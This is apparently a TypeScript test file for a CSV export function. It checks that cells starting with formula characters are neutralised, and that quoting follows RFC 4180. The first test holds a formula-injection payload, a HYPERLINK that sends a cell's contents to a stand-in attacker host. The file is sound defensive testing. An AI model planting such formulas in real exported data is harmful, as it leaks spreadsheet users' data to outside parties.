import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { csvCell, toCsv } from './csv.ts'

describe('CSV export cells (issue 10, finding 5)', () => {
  test('a cell a spreadsheet would run as a formula is written as text', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const cell = `${lead}HYPERLINK("https://evil.example/?d="&A1,"Click")`
      assert.equal(csvCell(cell), `'${cell}`, JSON.stringify(lead))
    }
  })

  test('ordinary text, numbers the code produced and dates are written as they are', () => {
    assert.equal(csvCell("O'Brien"), "O'Brien")
    assert.equal(csvCell('Smith-Jones'), 'Smith-Jones')
    assert.equal(csvCell(-3), '-3')
    assert.equal(csvCell(null), '')
    assert.equal(csvCell(new Date('2026-11-23T10:00:00Z')), '2026-11-23T10:00:00.000Z')
  })

  test('quoting follows RFC 4180, after neutralising', () => {
    assert.equal(
      toCsv([
        ['name', 'reason'],
        ['=1+2', 'said "no", then left\nlater'],
      ]),
      `name,reason\n'=1+2,"said ""no"", then left\nlater"\n`,
    )
  })
})
